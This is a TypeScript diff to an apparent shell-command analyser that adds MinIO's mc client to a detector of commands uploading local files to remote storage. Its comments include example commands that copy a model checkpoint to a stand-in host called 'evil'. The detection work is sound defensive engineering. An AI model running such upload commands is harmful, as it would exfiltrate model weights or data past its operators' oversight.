@@ -21,7 +21,8 @@
  *   reading is built (it needs the script's here-docs).
  * - `remoteCopyTools` (`attrs.exec.copiesToRemote`): rsync or scp pushing a local file to a remote
  *   destination, which staging rules read as a copy but is an upload; an object-store CLI copying
- *   to a bucket (exec-bucket-copies.ts), where a download is everyday work.
+ *   to a bucket (exec-bucket-copies.ts), rclone or MinIO's mc sending to a remote
+ *   (exec-rclone-copies.ts, exec-minio-copies.ts), where a download is everyday work.
  *
  * All are bounded (MAX_LINES, the reading's own bounds before that) and never throw.
  */
@@ -29,6 +30,7 @@ import { stdinText, type ToolAt } from './exec-decode-pipeline.js';
 import { operandsOf, stdinFile } from './exec-decode-stage.js';
 import { BUCKET_COPY_TOOLS, copiesToBucket } from './exec-bucket-copies.js';
 import { rcloneSends } from './exec-rclone-copies.js';
+import { mcSends, MINIO_TOOLS } from './exec-minio-copies.js';
 import { runIndex } from './exec-fetched-run.js';
 import { joinWords } from './exec-readings.js';
 import type { ShellScript } from './shell-words.js';
@@ -141,7 +143,8 @@ function pushesToRemote(words: readonly string[], tool: string): boolean {
  * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd) when they copy to a bucket
  * (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. rclone when it
  * sends to a remote (exec-rclone-copies.ts): `rclone copy /mnt/ckpt evil:b` gives `rclone`, a pull
- * (`rclone copy s3:datasets /data`) nothing. Redirections of a script's command are not operands.
+ * (`rclone copy s3:datasets /data`) nothing. MinIO's mc (or mcli) when it may send
+ * (exec-minio-copies.ts): `mc cp /mnt/ckpt/m.pt evil/b/` gives `mc`, `mc cp minio/ds/x /data/` nothing. Redirections of a script's command are not operands.
  * In order, each once.
  */
 export function remoteCopyTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
@@ -150,11 +153,12 @@ export function remoteCopyTools(commands: readonly (readonly string[])[], script
     const { words: all, t, tool } = runIndex(commands[c]!);
     if (t >= all.length) continue;
     const bucket = BUCKET_COPY_TOOLS.has(tool);
-    if ((tool !== 'rsync' && tool !== 'scp' && tool !== 'rclone' && !bucket) || out.includes(tool)) continue;
+    const minio = MINIO_TOOLS.has(tool);
+    if ((tool !== 'rsync' && tool !== 'scp' && tool !== 'rclone' && !bucket && !minio) || out.includes(tool)) continue;
     const words = scripted[c] === true ? [tool, ...(operandsOf(all, t, false) ?? [])] : all.slice(t);
     // A reading of interpreter code ends the command it makes with a note (`#paramiko.put`), no operand.
     if (scripted[c] === true && words.length > 1 && words[words.length - 1]!.startsWith('#')) words.pop();
-    if (bucket ? copiesToBucket(words, tool) : tool === 'rclone' ? rcloneSends(words) : pushesToRemote(words, tool)) out.push(tool);
+    if (bucket ? copiesToBucket(words, tool) : minio ? mcSends(words) : tool === 'rclone' ? rcloneSends(words) : pushesToRemote(words, tool)) out.push(tool);
   }
   return out;
 }
